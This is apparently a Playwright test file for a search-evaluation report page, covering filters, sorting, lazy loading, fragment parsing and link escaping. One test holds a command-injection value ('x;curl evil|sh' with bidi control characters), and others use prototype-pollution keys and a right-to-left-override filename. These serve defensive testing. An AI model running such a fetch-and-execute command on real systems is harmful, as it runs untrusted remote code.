"""Finding queries in report.html in a real browser: search, filters, order, what is drawn and linked."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Mapping
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.support.browser import RecordedPage, make_file_url, open_page, read_listed_queries
from tests.support.cases import check_each
from tests.support.factories import read_results
from tests.unit.report.incomplete_run import SWAYING
from tests.unit.report.pages import run_lexical, write_page

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

Entry = Mapping[str, Any]


def match_any(meets: Callable[[str, Entry, Entry], bool]) -> Callable[[Entry], bool]:
    """Whether any result of a query is like that: it is given engine, snippet and each judgment."""
    return lambda entry: any(
        meets(engine, snippet, judgment)
        for engine, answer in entry["engines"].items()
        for snippet in answer["snippets"]
        for judgment in snippet["judgments"]
    )


def list_grades(snippet: Entry) -> list[int | None]:
    return [judgment["grade"] for judgment in snippet["judgments"]]


def compute_spread(entry: Entry) -> float:
    scores = [answer["scores"]["nDCG@10"] for answer in entry["engines"].values()]
    known = [score for score in scores if score is not None]
    return max(known) - min(known) if known else 0.0


FILTERS: list[tuple[dict[str, Any], Callable[[Entry], bool]]] = [
    ({"verdict": "yes"}, match_any(lambda _, __, judgment: judgment["verdict"] == "yes")),
    ({"verdict": "no"}, match_any(lambda _, __, judgment: judgment["verdict"] == "no")),
    ({"verdict": "null"}, match_any(lambda _, __, judgment: judgment["verdict"] is None)),
    ({"grade": "3"}, match_any(lambda _, __, judgment: judgment["grade"] == 3)),
    (
        {"grade": "0", "engine": "Cyd"},
        match_any(lambda name, _, judgment: name == "Cyd" and judgment["grade"] == 0),
    ),
    ({"failed": True}, match_any(lambda _, __, judgment: judgment["error"] is not None)),
    ({"flagged": True}, match_any(lambda _, snippet, __: SWAYING in snippet["snippet"])),
    ({"flagged": True, "engine": "Cyd"}, lambda _: False),
    ({"repeats": True}, match_any(lambda _, snippet, __: list_grades(snippet)[0] != list_grades(snippet)[1])),
    ({"differ": True}, lambda entry: compute_spread(entry) >= 0.1),
    ({"ql": "zh"}, lambda entry: entry["lang"] == "zh"),
    ({"c.device": "phone"}, lambda entry: entry["extra"]["device"] == "phone"),
    ({"find": "ＯＷＮ 7.1"}, lambda entry: "7.1" in json.dumps(entry["engines"])),
    ({"find": "because of 3"}, match_any(lambda _, __, judgment: "because of 3" in judgment["reason"])),
    ({"find": "www.site2.example/15"}, lambda entry: entry["query_id"] == "q15"),
    ({"find": "nowhere to be found"}, lambda _: False),
]  # fmt: skip


def ask(page: Page, requests: Mapping[str, Any]) -> None:
    for control, value in requests.items():
        place = page.locator(f'[name="{control}"]')
        if value is True:
            place.check()
        elif control == "find":
            place.fill(value)
        elif control == "engine":
            place.select_option(label=value)
        else:
            place.select_option(value)


@pytest.fixture
def other_page(recorded_page: RecordedPage) -> Iterator[Page]:
    """A second page, for addresses that the first one had."""
    with recorded_page.page.context.new_page() as page:
        yield page


@check_each(("filters", "meets"), FILTERS)
def test_a_filter_finds_what_results_json_holds(
    recorded_page: RecordedPage,
    other_page: Page,
    folder: Path,
    filters: dict[str, Any],
    meets: Callable[[Entry], bool],
) -> None:
    from playwright.sync_api import expect

    page = recorded_page.page
    ask(page, filters)
    wanted = [entry["query_id"] for entry in read_results(folder)["queries"] if meets(entry)]
    assert read_listed_queries(page) == wanted
    expect(page.locator(".count")).to_contain_text(
        f"{len(wanted)} of 16 queries" if len(wanted) < 16 else "16 queries"
    )
    assert page.locator("li.query").count() == len(wanted)
    expect(page).to_have_url(re.compile("#"))
    address = page.url
    page.locator(".toolbar [type=reset]").click()
    assert len(read_listed_queries(page)) == 16
    other_page.goto("about:blank")  # another fragment alone loads nothing
    other_page.goto(address)
    assert read_listed_queries(other_page) == wanted


def test_a_missing_text_is_not_a_failed_judgment(browser: Browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    rows = [
        {"query_id": f"q{number}", "query": "anaemia", "engine": "a", "url": "http://a/", "snippet": text}
        for number, text in enumerate(("signs of anaemia", None))
    ]
    report = write_page(tmp_path, run_lexical(tmp_path / "run", rows))
    with open_page(browser, make_file_url(report), locale="en-US") as result:
        ask(result.page, {"textUnknown": True})
        assert read_listed_queries(result.page) == ["q1"]
        expect(result.page.locator(".badges .trouble")).to_have_text("no text to judge")
        result.page.locator("button.open").click()
        expect(result.page.locator(".chip").first).to_have_text("– unjudged: the text is missing")
        result.page.locator(".toolbar [type=reset]").click()
        ask(result.page, {"failed": True})
        assert read_listed_queries(result.page) == []


def test_an_answer_that_is_missing_can_be_found(browser: Browser, demo: Path) -> None:
    from playwright.sync_api import expect

    with open_page(browser, make_file_url(demo), locale="en-US") as result:
        ask(result.page, {"nothing": True})
        assert read_listed_queries(result.page) == ["zh-04", "en-04"]
        ask(result.page, {"engine": "compass"})
        assert read_listed_queries(result.page) == ["en-04"]
        result.page.locator("button.open").click()
        expect(result.page.locator("section.engine .trouble")).to_have_text(
            "error: HTTP 503 Service Unavailable"
        )


@pytest.mark.parametrize(
    ("order", "key"),
    [
        ("spread", lambda entry: -compute_spread(entry)),
        (
            "lowest",
            lambda entry: sum(answer["scores"]["nDCG@10"] or 0 for answer in entry["engines"].values()),
        ),
    ],
)
def test_queries_are_sorted_by_what_is_to_be_seen_first(
    recorded_page: RecordedPage, folder: Path, order: str, key: Callable[[Entry], float]
) -> None:
    ask(recorded_page.page, {"sort": order})
    values = {entry["query_id"]: round(key(entry), 3) for entry in read_results(folder)["queries"]}
    known = [values[each] for each in read_listed_queries(recorded_page.page)]
    assert all(one <= other + 0.002 for one, other in pairwise(known))


def test_lines_are_drawn_as_they_are_needed(long_page: RecordedPage) -> None:
    from playwright.sync_api import expect

    page = long_page.page
    assert page.locator("li.query").count() == 60
    page.locator("button[data-more=later]").scroll_into_view_if_needed()
    expect(page.locator("li.query")).to_have_count(64)
    expect(page.locator("button[data-more]")).to_have_count(0)


@pytest.fixture
def chinese_page(browser: Browser, report: Path) -> Iterator[RecordedPage]:
    """The page in Chinese."""
    with open_page(browser, make_file_url(report), locale="zh-CN") as result:
        yield result


@check_each(
    "fragment",
    [
        "sort=__proto__", "sort=constructor", "sort=never", "engine=__proto__", "engine=0", "engine=Dot",
        "grade=99", "grade=-1", "verdict=toString", "ql=tlh", "c.device=never", "c.never=phone",
        "c.__proto__=x", "lang=__proto__",
    ],
)  # fmt: skip
def test_what_an_address_asks_for_and_is_not_there_is_ignored(
    chinese_page: RecordedPage, report: Path, fragment: str
) -> None:
    from playwright.sync_api import expect

    page = chinese_page.page
    page.goto("about:blank")  # another fragment alone loads nothing
    page.goto(f"{make_file_url(report)}#{fragment}")
    assert read_listed_queries(page) == [f"q{number}" for number in range(16)]
    expect(page.locator(".count")).to_have_text("共 16 条查询")
    assert page.locator("select").evaluate_all("all => all.map((each) => each.value).join('')") == ""
    assert chinese_page.console_errors == []


def test_an_address_holds_an_engine_by_its_name(recorded_page: RecordedPage) -> None:
    from playwright.sync_api import expect

    ask(recorded_page.page, {"engine": "Cyd", "grade": "0"})
    expect(recorded_page.page).to_have_url(re.compile("#engine=Cyd&grade=0$"))


def test_a_query_that_is_not_there_is_named_with_nothing_hidden_and_in_no_command(
    browser: Browser, report: Path
) -> None:
    address = f"{make_file_url(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
    with open_page(browser, address, locale="en-US") as result:
        text = result.page.locator(".count").text_content() or ""
        assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in text
        assert "--query" not in text


def test_it_prints_every_query_that_is_found(long_page: RecordedPage) -> None:
    from playwright.sync_api import expect

    page = long_page.page
    assert page.locator("li.query").count() == 60
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert page.locator("li.query").count() == len(read_listed_queries(page)) == 64
    assert page.locator("li.more").count() == 0
    page.evaluate("location.hash = '#q=q62'")
    expect(page.locator("li.more.earlier")).to_have_count(1)
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert page.locator("li.query").count() == 64


def test_links_lead_where_the_engine_pointed_and_no_address_is_none(browser: Browser, tmp_path: Path) -> None:
    shown = {"query_id": "q", "query": "words", "snippet": "words", "title": "words"}
    addresses = {
        "Ada": "https://ex.example/\u202egnp.exe",
        "Bob": "",
        "Cyd": "https://ex.example/\ud800",
        "Dot": "https://ex.example/路?a=b c",
    }
    rows = [{**shown, "engine": engine, "rank": 1, "url": url} for engine, url in addresses.items()]
    path = write_page(tmp_path, run_lexical(tmp_path / "run", rows))
    with open_page(browser, f"{make_file_url(path)}#q=q", locale="en-US") as result:
        links = {
            engine: result.page.get_by_role("article", name=f"{engine}, rank 1").locator(".where")
            for engine in addresses
        }
        hrefs = {
            engine: [each.get_attribute("href") for each in place.get_by_role("link").all()]
            for engine, place in links.items()
        }
        assert hrefs == {
            "Ada": ["https://ex.example/%E2%80%AEgnp.exe"],
            "Bob": [],
            "Cyd": [],
            "Dot": ["https://ex.example/%E8%B7%AF?a=b%20c"],
        }
        assert links["Ada"].get_by_role("link").get_attribute("title") == "https://ex.example/\\x202egnp.exe"
        assert links["Bob"].count() == 0
        assert links["Cyd"].inner_text() == "https://ex.example/\\xd800"
